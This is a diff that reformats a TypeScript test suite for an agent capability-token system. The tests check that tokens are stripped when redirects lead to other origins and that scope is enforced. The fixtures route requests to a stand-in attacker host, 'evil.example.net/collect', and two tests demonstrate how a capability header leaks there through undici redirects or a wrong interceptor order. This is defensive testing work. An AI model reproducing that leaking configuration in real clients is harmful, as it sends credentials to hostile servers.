@@ -39,7 +39,12 @@ beforeAll(async () => {
     manifest: {
       authority: { id: 'moltbot-authority' },
       agents: [
-        { id: 'agent-summarizer-v2', trustLevel: 'L2', grants: ['agent:agent-database-reader:call', 'db:read:documents:namespace:user-123'], egress: [`${dbOrigin} internal`, `http://evil.example.net:${evil.port} internal`] },
+        {
+          id: 'agent-summarizer-v2',
+          trustLevel: 'L2',
+          grants: ['agent:agent-database-reader:call', 'db:read:documents:namespace:user-123'],
+          egress: [`${dbOrigin} internal`, `http://evil.example.net:${evil.port} internal`],
+        },
         { id: 'agent-status-reader', trustLevel: 'L1', grants: ['agent:agent-database-reader:call'] },
         {
           id: 'agent-database-reader',
@@ -50,7 +55,13 @@ beforeAll(async () => {
       ],
     },
   })
-  verifier = createVerifier({ id: 'agent-database-reader', issuers: [authority.trustedIssuer()], mode: 'enforce', audit, store: authority.store })
+  verifier = createVerifier({
+    id: 'agent-database-reader',
+    issuers: [authority.trustedIssuer()],
+    mode: 'enforce',
+    audit,
+    store: authority.store,
+  })
   const guard = createAgentCallGuard({ verifier })
   holder.guarded = guard.node((req, res, capability) => {
     if (capability !== undefined) jtis.push(capability.claims.jti)
@@ -87,7 +98,11 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
     const d = egressAgent()
     const r = await request(`${dbOrigin}/documents`, { dispatcher: d })
     expect(r.statusCode).toBe(200)
-    expect(await r.body.json()).toEqual({ presenter: 'agent-summarizer-v2', scope: ['agent:agent-database-reader:call'], path: '/documents' })
+    expect(await r.body.json()).toEqual({
+      presenter: 'agent-summarizer-v2',
+      scope: ['agent:agent-database-reader:call'],
+      path: '/documents',
+    })
     const f = await fetch(`${dbOrigin}/documents`, { dispatcher: d, method: 'POST', body: '{}' })
     expect(f.status).toBe(200)
     await f.text()
@@ -109,7 +124,10 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
     const d = egressAgent()
     const before = evil.seen.length
     const url = `${dbOrigin}/redirect-away`
-    const r = kind === 'request' ? await request(url, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1]) : await fetch(url, { dispatcher: d })
+    const r =
+      kind === 'request'
+        ? await request(url, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1])
+        : await fetch(url, { dispatcher: d })
     expect(kind === 'request' ? await (r as Dispatcher.ResponseData).body.text() : await (r as Response).text()).toBe('collected')
     const hop = evil.seen[before]
     expect(hop?.url).toBe('/collect')
@@ -121,19 +139,35 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
   it('a capability header set by the caller is removed on every other origin', async () => {
     const d = egressAgent()
     const before = evil.seen.length
-    const r = await request(`http://evil.example.net:${evil.port}/x`, { dispatcher: d, headers: { 'Agent-Capability': 'copied-from-somewhere' } })
+    const r = await request(`http://evil.example.net:${evil.port}/x`, {
+      dispatcher: d,
+      headers: { 'Agent-Capability': 'copied-from-somewhere' },
+    })
     await r.body.dump()
     expect(evil.seen[before]?.headers[AGENT_CAPABILITY_HEADER]).toBeUndefined()
     await d.close()
   })
 
   it('why: undici itself carries custom headers across origins on redirect', async () => {
-    const plain = new Agent({ connect: { lookup: (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) => cb(null, [{ address: '127.0.0.1', family: 4 }]) } as never }).compose(
-      interceptors.redirect({ maxRedirections: 3 }),
-    )
+    const plain = new Agent({
+      connect: {
+        lookup: (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) =>
+          cb(null, [{ address: '127.0.0.1', family: 4 }]),
+      } as never,
+    }).compose(interceptors.redirect({ maxRedirections: 3 }))
     const before = evil.seen.length
-    const token = await authority.mint({ subject: 'agent-summarizer-v2', audience: 'agent-database-reader', scope: ['agent:agent-database-reader:call'], operation: 'read', context: CONTEXT })
-    const r = await request(`${dbOrigin}/redirect-away`, { dispatcher: plain, headers: { [AGENT_CAPABILITY_HEADER]: token }, maxRedirections: 3 } as Parameters<typeof request>[1])
+    const token = await authority.mint({
+      subject: 'agent-summarizer-v2',
+      audience: 'agent-database-reader',
+      scope: ['agent:agent-database-reader:call'],
+      operation: 'read',
+      context: CONTEXT,
+    })
+    const r = await request(`${dbOrigin}/redirect-away`, {
+      dispatcher: plain,
+      headers: { [AGENT_CAPABILITY_HEADER]: token },
+      maxRedirections: 3,
+    } as Parameters<typeof request>[1])
     await r.body.dump()
     expect(evil.seen[before]?.headers[AGENT_CAPABILITY_HEADER]).toBe(token)
     evil.seen.length = before
@@ -141,15 +175,22 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
   })
 
   it('order matters: the capability interceptor outside the redirect one would leak', async () => {
-    const lookup = (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) => cb(null, [{ address: '127.0.0.1', family: 4 }])
-    const wrong = new Agent({ connect: { lookup } as never }).compose(interceptors.redirect({ maxRedirections: 3 }), createAgentCapabilityInterceptor(capabilities()))
+    const lookup = (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) =>
+      cb(null, [{ address: '127.0.0.1', family: 4 }])
+    const wrong = new Agent({ connect: { lookup } as never }).compose(
+      interceptors.redirect({ maxRedirections: 3 }),
+      createAgentCapabilityInterceptor(capabilities()),
+    )
     const before = evil.seen.length
     const r = await request(`${dbOrigin}/redirect-away`, { dispatcher: wrong, maxRedirections: 3 } as Parameters<typeof request>[1])
     await r.body.dump()
     expect(evil.seen[before]?.headers[AGENT_CAPABILITY_HEADER]).toMatch(/^eyJ/)
     evil.seen.length = before
     await wrong.close()
-    const right = new Agent({ connect: { lookup } as never }).compose(createAgentCapabilityInterceptor(capabilities()), interceptors.redirect({ maxRedirections: 3 }))
+    const right = new Agent({ connect: { lookup } as never }).compose(
+      createAgentCapabilityInterceptor(capabilities()),
+      interceptors.redirect({ maxRedirections: 3 }),
+    )
     const r2 = await request(`${dbOrigin}/redirect-away`, { dispatcher: right, maxRedirections: 3 } as Parameters<typeof request>[1])
     await r2.body.dump()
     expect(evil.seen[before]?.headers[AGENT_CAPABILITY_HEADER]).toBeUndefined()
@@ -159,12 +200,19 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
   it('createAgentCallDispatcher and a tool-shaped capability (mintForTool)', async () => {
     const d = createAgentCallDispatcher({
       ...capabilities({ capability: () => ({ tool: 'read_documents', args: { namespace: 'user-123' } }) }),
-      agentOptions: { connect: { lookup: (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) => cb(null, [{ address: '127.0.0.1', family: 4 }]) } as never },
+      agentOptions: {
+        connect: {
+          lookup: (_h: string, _o: unknown, cb: (e: null, a: Array<{ address: string; family: number }>) => void) =>
+            cb(null, [{ address: '127.0.0.1', family: 4 }]),
+        } as never,
+      },
     })
     // The server's default requirement wants agent:...:call, the token carries the tool scope: 403.
     const r = await request(`${dbOrigin}/documents`, { dispatcher: d })
     expect(r.statusCode).toBe(403)
-    expect(r.headers['www-authenticate']).toBe('AgentCapability realm="agent-database-reader", error="insufficient_scope", scope="agent:agent-database-reader:call"')
+    expect(r.headers['www-authenticate']).toBe(
+      'AgentCapability realm="agent-database-reader", error="insufficient_scope", scope="agent:agent-database-reader:call"',
+    )
     expect(await r.body.json()).toMatchObject({ error: { code: 'ERR_SCOPE_DENIED' } })
     await d.close()
   })
@@ -176,7 +224,10 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
       egress: [`${dbOrigin} internal`],
       resolver,
       mode: 'enforce',
-      capabilities: capabilities({ subject: 'agent-status-reader', capability: () => ({ scope: ['agent:agent-database-reader:call'], operation: 'execute' }) }),
+      capabilities: capabilities({
+        subject: 'agent-status-reader',
+        capability: () => ({ scope: ['agent:agent-database-reader:call'], operation: 'execute' }),
+      }),
     })
     const before = db.seen.length
     await expect(request(`${dbOrigin}/documents`, { dispatcher: d })).rejects.toMatchObject({ code: 'ERR_TRUST_LEVEL' })
@@ -186,12 +237,18 @@ describe('client: a fresh token per hop, only to the registered origin', () => {
 
   it('refuses ambiguous or bad target registrations', () => {
     const bad = [
-      [{ agentId: 'a', origin: 'http://x.example:1' }, { agentId: 'b', origin: 'HTTP://X.example:1/' }],
+      [
+        { agentId: 'a', origin: 'http://x.example:1' },
+        { agentId: 'b', origin: 'HTTP://X.example:1/' },
+      ],
       [{ agentId: 'a', origin: 'ftp://x.example' }],
       [{ agentId: 'a', origin: 'http://u:p@x.example' }],
       [{ agentId: 'a', origin: 'http://x.example/path' }],
     ]
-    for (const targets of bad) expect(() => createAgentCapabilityInterceptor(capabilities({ targets }))).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
+    for (const targets of bad)
+      expect(() => createAgentCapabilityInterceptor(capabilities({ targets }))).toThrow(
+        expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }),
+      )
   })
 })
 
@@ -235,7 +292,10 @@ describe('server: 401/403 with WWW-Authenticate and the coded error', () => {
 
   it('403 for a valid token without the scope or the level this request needs', async () => {
     const wrongScope = await call({ token: await mint('agent-summarizer-v2', 'db:read:documents:namespace:user-123') })
-    expect(wrongScope).toMatchObject({ status: 403, www: 'AgentCapability realm="agent-database-reader", error="insufficient_scope", scope="agent:agent-database-reader:call"' })
+    expect(wrongScope).toMatchObject({
+      status: 403,
+      www: 'AgentCapability realm="agent-database-reader", error="insufficient_scope", scope="agent:agent-database-reader:call"',
+    })
     // An L1 agent's read token presented for a POST (execute): its level does not permit it.
     const l1 = await call({ method: 'POST', body: 'x', token: await mint('agent-status-reader') })
     expect(l1.status).toBe(403)
